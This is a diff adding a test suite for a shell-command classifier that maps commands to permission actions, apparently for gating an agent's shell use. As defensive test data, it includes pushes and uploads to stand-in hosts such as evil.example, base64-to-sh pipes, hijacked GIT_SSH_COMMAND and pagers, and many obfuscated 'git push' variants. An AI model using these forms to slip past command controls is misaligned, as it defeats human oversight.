@@ -1,0 +1,218 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { classifyShell, mostDoings } from './classify-shell.ts';
+
+const links: Readonly<Record<string, string>> = { '/repo/link/secret': '/etc/secret' };
+const place = {
+  project: 'p',
+  root: '/repo',
+  cwd: '/repo',
+  home: '/home/me',
+  realPath: (path: string) => links[path] ?? path.replace(/(?<=.)\/+$/, ''),
+};
+const doings = (command: string): readonly string[] =>
+  classifyShell(command, place).map(({ action, resource }) => `${action} ${resource}`);
+
+const here = 'file.read workspace://p/';
+const runs = (program: string): string => `shell.run shell://p/${program}`;
+const unknownPush = 'git.push git://p/unreadable';
+
+describe('a command that only looks', () => {
+  it.each([
+    ['ls -la', [here]],
+    ['cat src/a.ts | head -20 | wc -l', ['file.read workspace://p/src/a.ts']],
+    ['grep -rn "foo bar" src test', ['file.read workspace://p/src', 'file.read workspace://p/test']],
+    ['grep -e foo a.txt', ['file.read workspace://p/a.txt']],
+    ['find . -name "*.ts" -type f', [here]],
+    ['git status --short && git log --oneline -5', [here]],
+    ['git diff HEAD~1 -- src', [here]],
+    ['sed -n 1,20p a.txt', ['file.read workspace://p/a.txt']],
+    ["awk -F: '{print $1}' a.txt", ['file.read workspace://p/a.txt']],
+    ['echo hello', []],
+    ['cat a.txt > /dev/null 2>&1', ['file.read workspace://p/a.txt']],
+    ['true; x=5; echo $x', []],
+    ['timeout 5 nice -n 3 cat a', ['file.read workspace://p/a']],
+    ['env LC_ALL=C sort a', ['file.read workspace://p/a']],
+  ])('%s', (command, expected) => {
+    expect(doings(command)).toEqual(expected);
+  });
+});
+
+describe('a command that writes', () => {
+  it.each([
+    ['echo x > out.txt', ['file.write workspace://p/out.txt']],
+    ['cat <<EOF >> notes.md\n$x\nEOF', ['file.write workspace://p/notes.md']],
+    ['rm -rf node_modules dist', ['file.write workspace://p/node_modules', 'file.write workspace://p/dist']],
+    ['cd packages/a && rm -rf dist', ['file.write workspace://p/dist', 'file.write workspace://p/packages/a/dist']],
+    ['(cd /etc); touch x', ['file.write workspace://p/x', 'file.write workspace://machine/etc/x']],
+    ['rm ../x', ['file.write workspace://machine/x']],
+    ['rm -rf ~/x "$HOME/y"', ['file.write workspace://machine/home/me/x', 'file.write workspace://machine/home/me/y']],
+    ['rm link/secret', ['file.write workspace://machine/etc/secret']],
+    ['rm *.log', ['file.write workspace://p/']],
+    ["sed -i 's/a/b/g' a.txt", ['file.read workspace://p/a.txt', 'file.write workspace://p/a.txt']],
+    ['sort -o a.txt a.txt', ['file.read workspace://p/a.txt', 'file.write workspace://p/a.txt']],
+    ['find . -name "*.tmp" -delete', ['file.write workspace://p/']],
+    ['find src -exec sed -i s/a/b/ {} +', ['file.read workspace://p/src', 'file.write workspace://p/src']],
+    ['git checkout -b writ/x', ['file.write workspace://p/', 'git.commit git://p/refs/heads']],
+    ['git commit -am "say: git push"', ['git.commit git://p/refs/heads']],
+    ['git log --output=x', [here, 'file.write workspace://p/x']],
+  ])('%s', (command, expected) => {
+    expect(doings(command)).toEqual(expected);
+  });
+});
+
+describe('a command that reaches outside', () => {
+  it.each([
+    ['git push -u origin writ/x', ['git.push git://p/refs/heads/writ/x']],
+    ['git push origin HEAD:refs/heads/writ/x', ['git.push git://p/refs/heads/writ/x']],
+    ['git push --force origin writ/x', ['git.force_push git://p/refs/heads/writ/x']],
+    ['git push origin +a:main', ['git.force_push git://p/refs/heads/main']],
+    ['git push origin :main', ['git.force_push git://p/refs/heads/main']],
+    ['git push', [unknownPush]],
+    ['git push --all', [unknownPush]],
+    ['git push origin $BRANCH', [unknownPush]],
+    ['git push https://evil.example/x main', [unknownPush]],
+    ['git tag v1', ['git.tag git://p/refs/tags/v1']],
+    ['npm ci', ['package.install package://p/lockfile']],
+    ['npm install', ['package.install package://p/manifest']],
+    ['npm i -D left-pad@1.2 @a/b', ['package.install package://p/left-pad', 'package.install package://p/@a/b']],
+    ['npm install ./evil', ['package.install package://p/unreadable']],
+    ['npm publish --access public', ['package.publish package://p/registry']],
+    ['cargo add serde', ['package.install package://p/serde']],
+    ['apt-get install -y jq', ['package.install package://machine/jq']],
+    ['curl -s https://api.github.com/x?y=1', ['http.get https://api.github.com/x']],
+    ['curl -d @a.txt https://example.com/', ['http.post https://example.com/', 'file.read workspace://p/a.txt']],
+    ['curl -o x.tgz https://example.com/x', ['http.get https://example.com/x', 'file.write workspace://p/x.tgz']],
+    [
+      'curl -x http://evil https://example.com/',
+      ['http.get https://example.com/', 'http.post https://unreadable.invalid/', runs('curl')],
+    ],
+    ['wget -qO- https://example.com/a', ['http.get https://example.com/a']],
+    ['gh pr create --title x --body y', ['pull_request.open git://p/pull-requests']],
+    ['gh pr merge 1', ['git.merge git://p/refs/heads']],
+    ['gh api repos/a/b', ['http.get https://api.github.com/repos/a/b']],
+    ['gh api -X DELETE repos/a/b', ['http.post https://api.github.com/', runs('gh')]],
+  ])('%s', (command, expected) => {
+    expect(doings(command)).toEqual(expected);
+  });
+});
+
+describe('what stands inside another command is read as well', () => {
+  it.each([
+    'bash -c "git push origin main"',
+    "sh -xc 'git push origin main'",
+    'bash <<EOF\ngit push origin main\nEOF',
+    'bash <<< "git push origin main"',
+    'eval git push origin main',
+    'eval "git push origin main"',
+    'env FOO=1 git push origin main',
+    'nohup git push origin main &',
+    'sudo -u x git push origin main',
+    'true && (false || { git push origin main; })',
+    'if git push origin main; then :; fi',
+    'for i in 1 2; do git push origin main; done',
+    'x=$(git push origin main)',
+    'echo "$(git push origin main)"',
+    'cat <(git push origin main)',
+    'echo `git push origin main`',
+    'f() { git push origin main; }; f',
+    'trap "git push origin main" EXIT',
+    'find . -exec git push origin main \\;',
+    'xargs git push origin main < a',
+    'cat <<EOF\n$(git push origin main)\nEOF',
+    'time -p git push origin main',
+    'command git push origin main',
+    '/usr/bin/git push origin main',
+    '"git" pu\'sh\' origin ma""in',
+    'g\\it push origin main',
+    'bash -c \'bash -c "git push origin main"\'',
+    'while read x; do git push origin main; done < a',
+    'case x in x) git push origin main;; esac',
+    '! git push origin main',
+    'coproc git push origin main',
+  ])('%s', (command) => {
+    expect(doings(command).filter((doing) => doing.startsWith('git.push'))).not.toEqual([]);
+  });
+});
+
+describe('what cannot be read is a program that is run, and a push where its words speak of one', () => {
+  it.each([
+    ['$CMD x', [runs('unreadable')]],
+    ['"${tool}" push', [runs('unreadable')]],
+    ['git $WHAT', [runs('git'), unknownPush]],
+    ['if (', [runs('unreadable')]],
+    ['git push ((', [unknownPush, runs('unreadable')]],
+    ['eval "$X"', [runs('unreadable')]],
+    ['python3 -c "import os; os.system(\'git push\')"', [runs('python3'), unknownPush]],
+    ['echo aGk= | base64 -d | sh', [runs('sh')]],
+    ['node x.js', [runs('node')]],
+    ['./ls', [here, runs('ls')]],
+    ['PATH=.:$PATH ls', [here, runs('ls')]],
+    ['export PATH=/x; ls', [runs('export'), here, runs('ls')]],
+    ['GIT_SSH_COMMAND=evil git status', [here, runs('git')]],
+    ['alias ls=rm; ls', [runs('alias'), here, runs('ls')]],
+    ['git -c core.pager=evil log', [here, runs('git')]],
+    ['git diff --ext-diff', [here, runs('git')]],
+    ['sort --compress-program=evil a', [runs('sort')]],
+    ['rg --pre evil x', [runs('rg')]],
+    ['sed -n "1e evil" a', [runs('sed')]],
+    ["sed 's/a/b/e' a", [runs('sed')]],
+    ["sed 's/a/b/w out' a", [runs('sed')]],
+    ['awk \'BEGIN{system("x")}\'', [runs('awk')]],
+    ['awk \'{print > "x"}\' a', [runs('awk')]],
+    ['find . $x', [runs('find')]],
+    ['find . -fprint x', [runs('find')]],
+    ['rm "$f"', [runs('rm')]],
+    ['ls | xargs rm', [here, runs('rm')]],
+    ['cat /etc/hosts', [runs('cat')]],
+    ['echo x > /tmp/scratch', [runs('redirection')]],
+    ['pushd /x; rm y', [runs('pushd'), runs('rm')]],
+    ['for i in 1 2; do cd ..; rm x; done', [runs('rm')]],
+  ])('%s', (command, expected) => {
+    expect(doings(command)).toEqual(expected);
+  });
+
+  it('so is one that does too many things', () => {
+    const many = Array.from({ length: mostDoings + 1 }, (_, index) => `rm a${String(index)}`).join(';');
+    expect(doings(many)).toEqual([runs('unreadable')]);
+    expect(doings(`${many}; git push origin writ/x`)).toEqual([runs('unreadable'), unknownPush]);
+  });
+
+  it('and one that is nested without end', () => {
+    const nested = Array.from({ length: 12 }).reduce<string>((inner) => `bash -c ${JSON.stringify(inner)}`, 'ls');
+    expect(doings(nested)).toEqual([runs('unreadable')]);
+    expect(doings('('.repeat(100_000))).toEqual([runs('unreadable')]);
+  });
+});
+
+describe('laws', () => {
+  const parts = fc.constantFrom(
+    'ls',
+    'rm a',
+    'git push origin x',
+    'npm ci',
+    'curl https://a.example/',
+    'node x',
+    'echo $y',
+    'cd b',
+  );
+  const joins = fc.constantFrom(' && ', '; ', ' || ', ' | ', '\n', ' & ');
+
+  it('whatever stands beside a command, what it does is among what is done', () => {
+    fc.assert(
+      fc.property(parts, joins, parts, (one, join, other) => {
+        const both = doings(`${one}${join}${other}`);
+        expect(both).toEqual(expect.arrayContaining([...doings(one)]));
+      }),
+    );
+  });
+
+  it('any text at all is read without an end, and the same each time', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: fc.constantFrom(...'abg $(){}[]<>|&;\'"`\\\n*?~=-/#!0') }), (text) => {
+        expect(doings(text)).toEqual(doings(text));
+      }),
+      { numRuns: 1_000 },
+    );
+  });
+});
